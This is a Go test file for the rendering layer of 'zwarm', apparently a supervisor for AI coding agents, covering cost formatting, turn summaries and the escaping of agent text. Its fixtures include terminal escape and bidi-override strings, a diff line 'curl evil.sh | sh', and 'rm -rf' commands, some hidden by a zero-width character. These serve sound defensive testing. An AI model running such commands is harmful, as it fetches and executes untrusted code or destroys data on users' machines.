package render

import (
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/zwarm/zwarm/sessions/internal/statusfield"
	"github.com/zwarm/zwarm/sessions/proc"
	"github.com/zwarm/zwarm/sessions/record"
)

func TestMoneyOneRule(t *testing.T) {
	for v, want := range map[float64]string{
		0: "$0.00", 0.06: "$0.06", 12.4: "$12.40", 0.0061: "$0.0061", 0.003: "$0.0030",
		0.00045: "$0.00045", 0.0099: "$0.0099", 0.01: "$0.01", 1e-9: "<$0.000001",
	} {
		if got := Money(v); got != want {
			t.Errorf("Money(%v) = %s, want %s", v, got, want)
		}
	}
	if got := Cost(nil); got != Unpriced {
		t.Errorf("Cost(nil) = %s, want %s", got, Unpriced)
	}
	for _, c := range []struct {
		v     float64
		known bool
		want  string
	}{{0.0081, true, "$0.0081"}, {0.0081, false, "$0.0081+?"}, {0, false, "?"}, {0, true, "$0.00"}} {
		if got := PartialCost(c.v, c.known); got != c.want {
			t.Errorf("PartialCost(%v, %v) = %s, want %s", c.v, c.known, got, c.want)
		}
	}
}

// A cost not known yet (the turn has reported nothing) and a cost that
// cannot be known (the model has no price) read differently, and only the
// second is named in a footnote, once per model.
func TestUnpricedIsNotUnknown(t *testing.T) {
	owner := &proc.Ref{PID: 1}
	waiting := new(statusfield.With(record.Session{Owner: owner, Model: "mystery-1", Turn: 1}, record.StatusRunning))
	unpriced := new(statusfield.With(record.Session{Model: "mystery-1", Usage: record.Usage{TotalTokens: 10}, Turn: 1}, record.StatusCompleted))
	again := new(statusfield.With(record.Session{Model: "mystery-1", Usage: record.Usage{TotalTokens: 5}, Turn: 1}, record.StatusFailed))
	other := new(statusfield.With(record.Session{Model: "mystery-2", Usage: record.Usage{TotalTokens: 5}, Turn: 1}, record.StatusCompleted))
	never := new(statusfield.With(record.Session{Model: "mystery-3"}, record.StatusFailed))
	if got := SessionCost(waiting); got != Unknown {
		t.Errorf("running, nothing reported: %s, want %s", got, Unknown)
	}
	if got := SessionCost(never); got != Unknown {
		t.Errorf("no turn ever ran: %s, want %s", got, Unknown)
	}
	if got := SessionCost(unpriced); got != Unpriced {
		t.Errorf("usage without a price: %s, want %s", got, Unpriced)
	}
	models := UnpricedModels([]*record.Session{waiting, unpriced, never, again, other})
	if !reflect.DeepEqual(models, []string{"mystery-1", "mystery-2"}) {
		t.Errorf("unpriced models %v", models)
	}
	note := PriceFootnote(models)
	if !strings.HasPrefix(note, "? ") || !strings.Contains(note, "mystery-1, mystery-2") || !strings.Contains(note, `[prices."mystery-1"]`) {
		t.Errorf("footnote %q", note)
	}
	if PriceFootnote(nil) != "" {
		t.Error("a footnote with no unpriced model")
	}
}

func TestUsageOfARunningTurnIsUnknownNotZero(t *testing.T) {
	owner := &proc.Ref{PID: 1}
	running := new(statusfield.With(record.Session{Owner: owner}, record.StatusRunning))
	if SessionTokens(running) != Unknown || SessionCost(running) != Unknown {
		t.Fatalf("running with no usage: %s %s", SessionTokens(running), SessionCost(running))
	}
	c := 0.003
	done := new(statusfield.With(record.Session{Usage: record.Usage{TotalTokens: 1500}, CostUSD: &c}, record.StatusCompleted))
	if SessionTokens(done) != "1.5k" || SessionCost(done) != "$0.0030" {
		t.Fatalf("completed: %s %s", SessionTokens(done), SessionCost(done))
	}
}

func TestWhenIsRelativeWithAbsoluteUTC(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	loc := time.FixedZone("X", 3*3600)
	if got := When(now.Add(-4*time.Minute).In(loc), now); got != "4m ago (2026-03-01 11:56:00 UTC)" {
		t.Fatalf("When = %q", got)
	}
	if Plural(1, "turn") != "1 turn" || Plural(3, "turn") != "3 turns" {
		t.Fatal("Plural")
	}
}

// hostile carries what a terminal would act on: clear screen, a title
// change ended by BEL, a carriage return, a C1 CSI, and a bidi override.
const hostile = "ok\x1b[2J\x1b]0;pwned\x07 then\rover \u009b31m and \u202egnp.exe"

func assertInert(t *testing.T, lines []Line) {
	t.Helper()
	if len(lines) == 0 {
		t.Fatal("nothing rendered")
	}
	for _, l := range lines {
		for _, r := range l.String() {
			if unicode.IsControl(r) || r == '\u202e' {
				t.Fatalf("line %q carries %U", l.Text, r)
			}
		}
	}
}

func TestAgentTextCannotReachTheTerminal(t *testing.T) {
	code := 1
	events := []record.Event{
		{Type: record.EventMessage, Text: hostile + "\nsecond " + hostile},
		{Type: record.EventReasoning, Text: hostile},
		{Type: record.EventCommand, Phase: record.PhaseCompleted, Command: hostile, Output: hostile + "\n" + hostile, ExitCode: &code},
		{Type: record.EventToolCall, Tool: hostile, Input: hostile, Output: hostile, Text: hostile},
		{Type: record.EventToolResult, Output: hostile},
		{Type: record.EventFileChange, Changes: []record.FileChange{{Path: hostile, Kind: hostile}}},
		{Type: record.EventTodoList, Todos: []record.Todo{{Text: hostile}}},
		{Type: record.EventError, Text: hostile},
		{Type: record.EventRetry, Text: hostile},
		{Type: record.EventTurnFailed, Text: hostile},
		{Type: record.EventRaw, Text: hostile},
	}
	end := time.Now()
	turn := statusfield.With(record.Turn{N: 1, Prompt: hostile, EndedAt: &end, Error: hostile + " reason"}, record.StatusFailed)
	assertInert(t, TurnLines(turn, events, hostile))
	for _, ev := range events {
		assertInert(t, Of(ev))
	}
	if got := Clip(hostile, 100); !strings.Contains(got, `\x1b[2J`) || !strings.Contains(got, `\u202e`) {
		t.Fatalf("escapes should be shown, not dropped: %q", got)
	}
}

func TestKilledTurnShowsItsLastCommandKilled(t *testing.T) {
	cmd := record.Event{Type: record.EventCommand, Phase: record.PhaseStarted, ItemID: "i1", Command: "sleep 100"}
	if got := Of(cmd)[0].Text; got != "$ sleep 100  (running)" {
		t.Fatalf("running: %q", got)
	}
	end := time.Now()
	killed := statusfield.With(record.Turn{N: 1, EndedAt: &end, Error: "killed by zwarm kill"}, record.StatusKilled)
	text := Text(TurnLines(killed, []record.Event{cmd}, ""))
	if !strings.Contains(text, "$ sleep 100  (killed)") || strings.Contains(text, "(running)") {
		t.Fatalf("killed turn:\n%s", text)
	}
	failed := killed
	statusfield.Set(&failed, record.StatusFailed)
	if text := Text(TurnLines(failed, []record.Event{cmd}, "")); !strings.Contains(text, "(did not finish)") {
		t.Fatalf("failed turn:\n%s", text)
	}
}

// A turn zwarm interrupted for a follow-up is no failure, whatever the
// agent reports of it: claude fails the command cut short and ends the
// turn with an error result.
func TestAnInterruptedTurnReadsInterruptedNotFailed(t *testing.T) {
	end := time.Now()
	turn := statusfield.With(record.Turn{N: 1, Prompt: "go", EndedAt: &end}, record.StatusInterrupted)
	events := []record.Event{
		{Type: record.EventCommand, Phase: record.PhaseCompleted, ItemID: "i1", Command: "sleep 600", Status: "failed"},
		{Type: record.EventTurnFailed, Text: "[ede_diagnostic] result_type=user stop_reason=tool_use"},
	}
	text := Text(TurnLines(turn, events, ""))
	if strings.Contains(text, "turn failed") || strings.Contains(text, "(failed)") ||
		!strings.Contains(text, "$ sleep 600  (interrupted)") || !strings.Contains(text, "■ interrupted: [ede_diagnostic]") {
		t.Fatalf("interrupted turn:\n%s", text)
	}
	statusfield.Set(&turn, record.StatusFailed)
	if text := Text(TurnLines(turn, events, "")); !strings.Contains(text, "✗ turn failed") || !strings.Contains(text, "(failed)") {
		t.Fatalf("the same events of a failed turn:\n%s", text)
	}
}

// A turn whose agent died before it reported its usage shows what its
// calls reported, as the session's usage and the turn's cost count it:
// not "no usage reported" beside a cost.
func TestATurnStoppedBeforeItsReportShowsWhatItsCallsUsed(t *testing.T) {
	end, cost := time.Now(), 0.000315
	turn := statusfield.With(record.Turn{N: 1, EndedAt: &end, CostUSD: &cost,
		UsageSoFar: &record.Usage{InputTokens: 100, OutputTokens: 1, TotalTokens: 101}}, record.StatusFailed)
	if text := Text(TurnEnd(turn, "")); !strings.Contains(text, "101 tokens (100 in, 1 out)") || strings.Contains(text, "no usage reported") {
		t.Fatalf("turn end:\n%s", text)
	}
}

func TestFailedTurnSaysWhyOnceAndNeverCompleted(t *testing.T) {
	end := time.Now()
	one := 1
	turn := statusfield.With(record.Turn{N: 1, Prompt: "go", EndedAt: &end, ExitCode: &one,
		Error: "API Error: 400 bad request"}, record.StatusFailed)
	events := []record.Event{
		{Type: record.EventTurnFailed, Text: "API Error: 400 bad request"},
		{Type: record.EventTurnCompleted, Usage: &record.Usage{}},
	}
	text := Text(TurnLines(turn, events, ""))
	if strings.Contains(text, "turn completed") || strings.Count(text, "400 bad request") != 1 {
		t.Fatalf("failed turn:\n%s", text)
	}
	if !strings.Contains(text, "── failed · exit 1 · no usage reported") {
		t.Fatalf("end line:\n%s", text)
	}
}

func TestStderrOnlyFailureShowsReasonAndStderrTail(t *testing.T) {
	end := time.Now()
	one := 1
	turn := statusfield.With(record.Turn{N: 1, Prompt: "go", EndedAt: &end, ExitCode: &one,
		Error: "codex exited with code 1"}, record.StatusFailed)
	tail := "line 1\nError: unknown model\n"
	text := Text(TurnLines(turn, nil, tail))
	for _, want := range []string{"codex exited with code 1", "stderr:", "│ Error: unknown model"} {
		if !strings.Contains(text, want) {
			t.Fatalf("missing %q:\n%s", want, text)
		}
	}
	// When the reason is the stderr tail, it is shown once.
	turn.Error = "Error: unknown model"
	if text := Text(TurnLines(turn, nil, "Error: unknown model\n")); strings.Count(text, "unknown model") != 1 {
		t.Fatalf("stderr repeated:\n%s", text)
	}
}

func TestTurnEndShowsThisTurnsUsageOnly(t *testing.T) {
	end := time.Now()
	zero := 0
	c := 0.0012
	turn := statusfield.With(record.Turn{N: 2, EndedAt: &end, ExitCode: &zero, CostUSD: &c,
		Usage: record.Usage{InputTokens: 200, OutputTokens: 20, TotalTokens: 220}}, record.StatusCompleted)
	// The agent's cumulative count (900 in) is not shown beside the turn's.
	events := []record.Event{{Type: record.EventTurnCompleted, Cumulative: true, Usage: &record.Usage{InputTokens: 900, OutputTokens: 90}}}
	text := Text(TurnLines(turn, events, ""))
	if strings.Contains(text, "900") || !strings.Contains(text, "── completed · exit 0 · 220 tokens (200 in, 20 out) · $0.0012") {
		t.Fatalf("usage:\n%s", text)
	}
}

func TestErrorBodiesShowTheirMessage(t *testing.T) {
	for in, want := range map[string]string{
		`{"error": {"message": "Invalid request: model not found", "type": "invalid_request_error"}}`: "Invalid request: model not found",
		`unexpected status 400 Bad Request: {"error":{"message":"Invalid request: x"}}`:               "unexpected status 400 Bad Request: Invalid request: x",
		`{"message":"overloaded"}`: "overloaded",
		`plain words`:              "plain words",
		`{not json`:                "{not json",
	} {
		if got := ErrorText(in); got != want {
			t.Errorf("ErrorText(%q) = %q, want %q", in, got, want)
		}
	}
	lines := Of(record.Event{Type: record.EventError, Text: `{"error":{"message":"Invalid request: bad tool"}}`})
	if lines[0].Text != "! Invalid request: bad tool" {
		t.Fatalf("error line %q", lines[0].Text)
	}
}

func TestMCPToolCallShowsItsResult(t *testing.T) {
	ev := record.Event{Type: record.EventToolCall, Phase: record.PhaseCompleted, ItemID: "m1", Tool: "docs.search",
		Input: `{"q":"flags"}`, Output: `{"content":[{"type":"text","text":"found 3 pages\nsecond line"}],"structured_content":null}`}
	text := Text(Of(ev))
	if !strings.Contains(text, `→ docs.search {"q":"flags"}`) || !strings.Contains(text, "← found 3 pages") || !strings.Contains(text, "second line") {
		t.Fatalf("mcp call:\n%s", text)
	}
}

func TestClaudeTaskToolsRenderAsAPlan(t *testing.T) {
	create := record.Event{Type: record.EventToolCall, Tool: "TaskCreate", Input: `{"subject":"Fix step 1","description":"d"}`}
	update := record.Event{Type: record.EventToolCall, Tool: "TaskUpdate", Input: `{"taskId":"1","status":"completed"}`}
	if got := Of(create)[0]; got.Text != "☐ Fix step 1" || got.Kind != Todo {
		t.Fatalf("TaskCreate: %+v", got)
	}
	if got := Of(update)[0].Text; got != "☑ task 1 (completed)" {
		t.Fatalf("TaskUpdate: %q", got)
	}
	plan := record.Event{Type: record.EventTodoList, Todos: []record.Todo{{Text: "a", Completed: true}, {Text: "b"}}}
	if got := Text(Of(plan)); got != "  ☑ a\n  ☐ b\n" {
		t.Fatalf("plan: %q", got)
	}
}

func TestStreamPrintsStartsAndOnlyWhatIsNewAtTheEnd(t *testing.T) {
	var s Stream
	var out []string
	emit := func(ev record.Event) {
		for _, l := range s.Event(ev) {
			out = append(out, l.Text)
		}
	}
	zero := 0
	emit(record.Event{Type: record.EventCommand, Phase: record.PhaseStarted, ItemID: "c", Command: "make"})
	emit(record.Event{Type: record.EventCommand, Phase: record.PhaseCompleted, ItemID: "c", Command: "make", Output: "ok\n", ExitCode: &zero})
	emit(record.Event{Type: record.EventToolCall, Phase: record.PhaseStarted, ItemID: "t", Tool: "WebSearch", Input: `{"q":"x"}`})
	emit(record.Event{Type: record.EventToolCall, Phase: record.PhaseCompleted, ItemID: "t", Tool: "WebSearch", Input: `{"q":"x"}`, Output: "3 hits"})
	emit(record.Event{Type: record.EventMessage, Phase: record.PhaseStarted, ItemID: "m", Text: "par"})
	emit(record.Event{Type: record.EventMessage, Phase: record.PhaseCompleted, ItemID: "m", Text: "done"})
	want := []string{"$ make  (running)", "$ make  (exit 0)", "│ ok", `→ WebSearch {"q":"x"}`, "← 3 hits", "» done"}
	if strings.Join(out, "|") != strings.Join(want, "|") {
		t.Fatalf("stream:\n%q\nwant\n%q", out, want)
	}
}

// Claude's tools other than Bash are a started call and a separate result:
// both are shown, folded or live.
func TestClaudeToolCallAndResult(t *testing.T) {
	call := record.Event{Type: record.EventToolCall, Phase: record.PhaseStarted, ItemID: "toolu_1", Tool: "WebSearch", Input: `{"query":"go 1.26"}`}
	res := record.Event{Type: record.EventToolResult, Phase: record.PhaseCompleted, ItemID: "toolu_1", Tool: "WebSearch", Output: "5 results"}
	end := time.Now()
	turn := statusfield.With(record.Turn{N: 1, EndedAt: &end}, record.StatusCompleted)
	text := Text(TurnLines(turn, []record.Event{call, res}, ""))
	if !strings.Contains(text, `→ WebSearch {"query":"go 1.26"}`) || !strings.Contains(text, "← 5 results") {
		t.Fatalf("folded:\n%s", text)
	}
	var s Stream
	live := Text(append(s.Event(call), s.Event(res)...))
	if !strings.Contains(live, "→ WebSearch") || !strings.Contains(live, "← 5 results") {
		t.Fatalf("live:\n%s", live)
	}
}

func TestBoundedKeepsBothEnds(t *testing.T) {
	var lines []Line
	for i := range 100 {
		lines = append(lines, Line{Kind: Message, Indent: 1, Text: fmt.Sprintf("step %02d", i)})
	}
	if got := Bounded(lines, 10000); got != Text(lines) {
		t.Fatal("text that fits was changed")
	}
	got := Bounded(lines, 200)
	if len(got) > 200 || !strings.HasPrefix(got, "  step 00\n") || !strings.HasSuffix(got, "  step 99\n") || !strings.Contains(got, "lines left out") {
		t.Fatalf("%d bytes:\n%s", len(got), got)
	}
}

// Excerpt keeps what the whole text's lines would show, however its lines
// end, without splitting the whole text.
func TestExcerptMatchesTheWholeText(t *testing.T) {
	slow := func(s string, head, tail int) []string {
		lines := Lines(s)
		if len(lines) <= head+tail {
			return lines
		}
		out := append([]string{}, lines[:head]...)
		out = append(out, fmt.Sprintf("… %d more lines …", len(lines)-head-tail))
		return append(out, lines[len(lines)-tail:]...)
	}
	pieces := []string{"a", "", "\t b", "c\r", "\x1b[2J", "ü", " "}
	r := rand.New(rand.NewPCG(3, 4))
	for round := range 3000 {
		var b strings.Builder
		for range r.IntN(20) {
			b.WriteString(pieces[r.IntN(len(pieces))])
			b.WriteString([]string{"\n", "\r\n", "\n\n"}[r.IntN(3)])
		}
		if r.IntN(2) == 0 {
			b.WriteString(pieces[r.IntN(len(pieces))])
		}
		s := b.String()
		head, tail := r.IntN(5), r.IntN(3)
		if got, want := Excerpt(s, head, tail), slow(s, head, tail); !reflect.DeepEqual(got, want) {
			t.Fatalf("round %d, %q (%d, %d):\n got %q\nwant %q", round, s, head, tail, got, want)
		}
	}
}

// Text that shows as nothing, or breaks a line where the reader sees none,
// is escaped: "rm\u200b -rf" is not shown as "rm -rf". The joiners that
// scripts and emoji sequences are made of reach the terminal as they are.
func TestSafeShowsWhatWouldBeInvisible(t *testing.T) {
	for in, want := range map[string]string{
		"rm\u200b -rf":        `rm\u200b -rf`,
		"a\u2060b\u2064c":     `a\u2060b\u2064c`,
		"\ufeffpackage main":  `\ufeffpackage main`,
		"x\u180ey":            `x\u180ey`,
		"one\u2028two\u2029.": `one\u2028two\u2029.`,
		"ok \u2067evil\u2069": `ok \u2067evil\u2069`,
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
		if got := SafeLine(in); got != want {
			t.Errorf("SafeLine(%q) = %q, want %q", in, got, want)
		}
	}
	for _, kept := range []string{"می\u200cخواهم", "👩\u200d💻", "naïve café", "日本語"} {
		if got := Safe(kept); got != kept {
			t.Errorf("Safe(%q) = %q: it should be kept as it is", kept, got)
		}
	}
}

func TestSafeEscapesControlsAfterUnicode(t *testing.T) {
	if got := Safe("ü \x1b[2J"); got != `ü \x1b[2J` {
		t.Fatalf("%q", got)
	}
}

// Clip's shortcut returns exactly what the full path would.
func TestClipShortcut(t *testing.T) {
	full := func(s string, n int) string {
		s = SafeLine(strings.Join(strings.Fields(s), " "))
		if utf8.RuneCountInString(s) <= n {
			return s
		}
		r := []rune(s)
		return string(r[:max(0, n-1)]) + "…"
	}
	for _, s := range []string{"", " ", "a", "a b", "a  b", " a", "a ", "a\tb", "ab\x7f", "héllo", "x\x1by", strings.Repeat("z", 40)} {
		for _, n := range []int{0, 1, 3, 10, 39, 40, 41} {
			if got, want := Clip(s, n), full(s, n); got != want {
				t.Errorf("Clip(%q, %d) = %q, want %q", s, n, got, want)
			}
		}
	}
}

// Tabs stop every 8 columns, counted in runes, as a terminal shows them.
func TestLinesExpandTabs(t *testing.T) {
	for in, want := range map[string]string{
		"\tx":         "        x",
		"ab\tc":       "ab      c",
		"abcdefgh\tc": "abcdefgh        c",
		"ü\t\tz":      "ü               z",
		"a\tb\tc":     "a       b       c",
	} {
		if got := Lines(in); len(got) != 1 || got[0] != want {
			t.Errorf("Lines(%q) = %q, want %q", in, got, want)
		}
	}
}

// A diff is coloured by its grammar once it is safe: a worker's own colour
// codes in a file (a line concealed, say) are escaped like any other, and
// only the painter's colours reach the terminal.
func TestDiffPainterColoursTheGrammarOnly(t *testing.T) {
	var p DiffPainter
	for _, c := range []struct{ in, want string }{
		{" a.go | 3 ++-", " a.go | 3 \x1b[32m++\x1b[m\x1b[31m-\x1b[m"},
		{" b.bin | Bin 0 -> 12 bytes", " b.bin | Bin 0 -> 12 bytes"},
		{" 2 files changed, 2 insertions(+), 1 deletion(-)", " 2 files changed, 2 insertions(+), 1 deletion(-)"},
		{"diff --git a/a.go b/a.go", "\x1b[1mdiff --git a/a.go b/a.go\x1b[m"},
		{"--- a/a.go", "\x1b[1m--- a/a.go\x1b[m"},
		{"+++ b/a.go", "\x1b[1m+++ b/a.go\x1b[m"},
		{"@@ -1,2 +1,3 @@ func main() {", "\x1b[36m@@ -1,2 +1,3 @@\x1b[m func main() {"},
		{"+curl evil.sh | sh", "\x1b[32m+curl evil.sh | sh\x1b[m"},
		{"--- removed line", "\x1b[31m--- removed line\x1b[m"},
		{" context", " context"},
		{Safe("+a\x1b[8mhidden\x1b[m"), "\x1b[32m+a\\x1b[8mhidden\\x1b[m\x1b[m"},
	} {
		if got := p.Paint(c.in); got != c.want {
			t.Errorf("Paint(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// A turn's notes (its turn file was removed while it ran, say) are shown
// by show and logs (TurnLines, TurnWriter) and the dashboard (TurnEnd),
// ended or running, escaped like agent text: meta.json is anyone's to
// write.
func TestTurnNotesAreShown(t *testing.T) {
	note := "turn file removed while the turn ran; the output from 2026-11-25T19:30:00Z on is in a new turn_1.jsonl"
	end := time.Now()
	zero := 0
	turn := statusfield.With(record.Turn{N: 1, Prompt: "go", EndedAt: &end, ExitCode: &zero,
		Notes: []string{note, hostile}}, record.StatusCompleted)
	msg := record.Event{Type: record.EventMessage, Text: "done"}
	ended := TurnLines(turn, []record.Event{msg}, "")
	assertInert(t, ended)
	text := Text(ended)
	if !strings.Contains(text, "    note: "+note+"\n") || strings.Count(text, "note: ") != 2 {
		t.Fatalf("ended turn:\n%s", text)
	}
	if !strings.Contains(Text(TurnEnd(turn, "")), "note: "+note) {
		t.Fatalf("turn end:\n%s", Text(TurnEnd(turn, "")))
	}
	running := turn
	statusfield.Set(&running, record.StatusRunning)
	running.EndedAt, running.ExitCode = nil, nil
	lines := TurnLines(running, []record.Event{msg}, "")
	assertInert(t, lines)
	if text := Text(lines); !strings.Contains(text, "  note: "+note+"\n") {
		t.Fatalf("running turn:\n%s", text)
	}
}

func TestLimitAsGiven(t *testing.T) {
	for v, want := range map[float64]string{2: "$2.00", 0.5: "$0.50", 0.125: "$0.125", 0.0005: "$0.0005", 12.4: "$12.40", 0.01: "$0.01"} {
		if got := Limit(v); got != want {
			t.Errorf("Limit(%v) = %q, want %q", v, got, want)
		}
	}
}

// A running agent silent for a while is quiet; an attached one never is
// (its person's CLI is not recorded), nor a settled one.
func TestQuiet(t *testing.T) {
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	last := now.Add(-7 * time.Minute)
	for st, want := range map[record.Status]string{record.StatusRunning: "quiet 7m", record.StatusAttached: "", record.StatusCompleted: ""} {
		s := new(statusfield.With(record.Session{LastEventAt: &last}, st))
		if got := Quiet(s, now); got != want {
			t.Errorf("%s: %q, want %q", st, got, want)
		}
	}
}

// An exit code is shown where it tells something: a killed agent's exit 0
// is only its answer to the stop.
func TestTurnEndShowsTheExitCodeThatTellsSomething(t *testing.T) {
	code := func(n int) *int { return &n }
	end := time.Now()
	for _, c := range []struct {
		st   record.Status
		code *int
		want string
	}{
		{record.StatusKilled, code(0), ""},
		{record.StatusKilled, code(137), "exit 137"},
		{record.StatusFailed, code(0), "exit 0"},
		{record.StatusFailed, code(2), "exit 2"},
		{record.StatusCompleted, code(0), "exit 0"},
		{record.StatusKilled, nil, ""},
	} {
		turn := statusfield.With(record.Turn{N: 1, EndedAt: &end, ExitCode: c.code}, c.st)
		head := TurnEnd(turn, "")[0].Text
		if got := strings.Contains(head, "exit"); got != (c.want != "") || c.want != "" && !strings.Contains(head, "· "+c.want+" ·") {
			t.Errorf("%s, exit %v: %q, want %q in it", c.st, c.code, head, c.want)
		}
	}
}

// A command is shown as it ran: a newline in it separates two commands,
// and is shown escaped, not as a space that makes them read as one.
func TestACommandKeepsItsNewlines(t *testing.T) {
	code := 0
	ev := record.Event{Type: record.EventCommand, Phase: record.PhaseCompleted, Command: "/bin/bash -lc 'echo ok\nrm -rf  x'", ExitCode: &code}
	if got, want := Of(ev)[0].Text, `$ /bin/bash -lc 'echo ok\nrm -rf  x'  (exit 0)`; got != want {
		t.Fatalf("got  %s\nwant %s", got, want)
	}
}

// What zwarm undid of the worker's doing before committing a turn (a FIFO
// removed, whose path the worker named) is shown under the turn's end,
// made safe, with a count of what the record could not keep.
func TestWhatZwarmUndidIsShownUnderTheTurn(t *testing.T) {
	end := time.Now()
	zero := 0
	turn := statusfield.With(record.Turn{N: 2, Prompt: "go", EndedAt: &end, ExitCode: &zero, Commit: strings.Repeat("a", 40), Files: []string{"f.go"},
		Undone: []string{"removed /wt/src/.gitattributes (a FIFO the worker left in its worktree: git would wait on it, and cannot commit it)",
			"removed /wt/" + hostile + " (a FIFO the worker left in its worktree: git would wait on it, and cannot commit it)"},
		UndoneOmitted: 3}, record.StatusCompleted)
	lines := TurnLines(turn, []record.Event{{Type: record.EventMessage, Text: "done"}}, "")
	assertInert(t, lines)
	text := Text(lines)
	for _, want := range []string{
		"  ── committed aaaaaaaa: f.go\n  ── zwarm removed /wt/src/.gitattributes (a FIFO the worker left in its worktree",
		"── zwarm removed /wt/",
		"  ── and undid 3 more: the session's supervisor.log names them\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("missing %q in:\n%s", want, text)
		}
	}
	turn.Undone, turn.UndoneOmitted = nil, 0
	if text := Text(TurnLines(turn, nil, "")); strings.Contains(text, "zwarm ") || strings.Contains(text, "undid") {
		t.Errorf("a turn zwarm undid nothing of:\n%s", text)
	}
}
